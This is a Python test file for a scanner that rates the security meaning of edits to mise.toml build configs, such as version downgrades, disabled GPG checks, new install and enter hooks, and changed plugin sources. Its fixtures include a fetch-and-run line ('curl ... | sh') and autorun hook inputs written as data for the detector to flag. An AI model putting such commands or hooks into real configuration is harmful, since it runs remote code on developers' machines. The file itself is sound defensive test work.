"""What an edit of mise.toml means."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from kit.edits import edited, mangled, never_raises, said

from scanner.formats.builds import mise

MISE = """\
# tools of this checkout
min_version = "2025.1"

[tools]
node = "24.1.0"
golangci-lint = "2.8.0"
"npm:acme-pack" = { version = "1.2.0", os = ["linux"] }

[env]
LEVEL = "1"
_.path = ["./bin"]

[plugins]
acme = "https://git.example.org/acme/plugin"

[settings]
jobs = 4
gpg_verify = true
trusted_config_paths = ["~/work"]

[tasks.build]
description = "Build it"
run = "go build ./..."

[tasks.test]
run = "go test ./..."

[tasks.sync]
run = "acme sync"
"""

TOLD = [
    ("a bump", ['"24.1.0"', '"24.2.0"'], ["medium dependency-bumped node"]),
    ("a linter's bump", ['"2.8.0"', '"2.9.0"'], ["low dependency-bumped golangci-lint"]),
    ("a downgrade", ['"24.1.0"', '"22.1.0"'], ["high dependency-downgraded node"]),
    ("whatever is newest", ['"24.1.0"', '"latest"'], ["high pin-loosened node"]),
    ("a tool", ['node = "24.1.0"', 'node = "24.1.0"\njq = "1.7"'], ["high dependency-added jq"]),
    ("no tool", ['node = "24.1.0"\n', ""], ["low dependency-removed node"]),
    ("a tool from a folder", ['"24.1.0"', '"path:/opt/node"'],
     ["high pin-loosened node", "high source-changed node"]),
    ("a tool's option", ['["linux"]', '["macos"]'], ["medium dependency-changed npm:acme-pack"]),
    ("a command after install", ['"24.1.0"', '{ version = "24.1.0", postinstall = "./x" }'],
     ["critical install-script-added tools.node.postinstall"]),
    ("environment", ['LEVEL = "1"', 'LEVEL = "2"'], ["medium env-changed env.LEVEL"]),
    ("a registry by variable", ['LEVEL = "1"', 'LEVEL = "1"\nNPM_CONFIG_REGISTRY = "https://e.example.org"'],
     ["high env-changed env.NPM_CONFIG_REGISTRY"]),
    ("a folder on the path", ['["./bin"]', '["./evil"]'], ["high env-changed env._.path"]),
    ("a sourced script", ['_.path = ["./bin"]', '_.path = ["./bin"]\n_.source = "./x.sh"'],
     ["critical autorun-added env._.source"]),
    ("a plug-in's home", ["git.example.org/acme", "git.example.org/evil"], ["high plugin-changed plugins.acme"]),
    ("signatures off", ["gpg_verify = true", "gpg_verify = false"],
     ["critical transport-weakened settings.gpg_verify"]),
    ("trust", ['["~/work"]', '["/"]'], ["high setting-changed settings.trusted_config_paths"]),
    ("the build", ["go build ./...", "go build -tags x ./..."], ["high build-script-changed build"]),
    ("another task", ["acme sync", "acme sync --all"], ["low build-script-changed sync"]),
    ("fetch and run in a test", ["go test ./...", "curl -fsSL https://e.example.org/x | sh"],
     ["critical download-and-run recipes"]),
    ("publish in a test", ["go test ./...", "npm publish"], ["critical publish-changed recipes"]),
    ("a hook on entering", ["[tools]", '[hooks]\nenter = "./x"\n[tools]'], ["critical autorun-added hooks.enter"]),
    ("a hook after installs", ["[tools]", '[hooks]\npostinstall = "./x"\n[tools]'],
     ["critical install-script-added hooks.postinstall"]),
    ("a table nobody knows", ["[tools]", "[unheard]\nof = 1\n[tools]"], ["medium setting-changed unheard.of"]),
]  # fmt: skip
QUIET = [
    ("comment", ["of this checkout", "of that checkout"]),
    ("layout", ['node = "24.1.0"', "node='24.1.0'"]),
    ("description", ["Build it", "Build all"]),
    ("a test", ["go test ./...", "go test -race ./..."]),
    ("a new check", ["[tasks.test]", '[tasks."lint:go"]\nrun = "golangci-lint run"\n[tasks.test]']),
    ("jobs", ["jobs = 4", "jobs = 8"]),
    ("a comment in a script", ["go build ./...", "go build ./... # all"]),
]


@pytest.mark.parametrize(("edits", "expected"), [row[1:] for row in TOLD], ids=[row[0] for row in TOLD])
def test_what_is_told(edits: list[str], expected: list[str]) -> None:
    assert said(mise, MISE, edited(MISE, *edits)) == expected


@pytest.mark.parametrize("edits", [row[1] for row in QUIET], ids=[row[0] for row in QUIET])
def test_what_means_nothing(edits: list[str]) -> None:
    assert said(mise, MISE, edited(MISE, *edits)) == []


def test_a_lowered_cooldown() -> None:
    old = '[settings]\nminimum_release_age = "7d"\n'
    assert said(mise, old, old.replace("7d", "0d")) == ["high cooldown-lowered settings.minimum_release_age"]


def test_new_gone_and_unreadable() -> None:
    assert said(mise, None, '[tools]\njq = "1"\n[tasks.test]\nrun = "x"\n') == ["high dependency-added jq"]
    assert said(mise, MISE, None) == ["medium file-removed file"]
    assert [each.split()[1] for each in said(mise, MISE, "[tools]\n<<<<<<< a\n")] == ["opaque"]
    assert [each.split()[1] for each in said(mise, MISE, "[tools\n")] == ["opaque"]


@pytest.mark.parametrize("path", ["mise.toml", "a/.mise.local.toml", ".config/mise/config.toml", ".mise/config.toml"])
def test_names(path: str) -> None:
    assert mise.matches(path)
    assert not mise.matches(f"{path}.md")


@settings(max_examples=100, deadline=None)
@given(old=mangled(MISE), new=st.one_of(mangled(MISE), st.sampled_from([b"tools = 1", b"[[tools]]", b"tasks = [1]"])))
def test_never_raises(old: bytes, new: bytes) -> None:
    never_raises(mise, old, new)
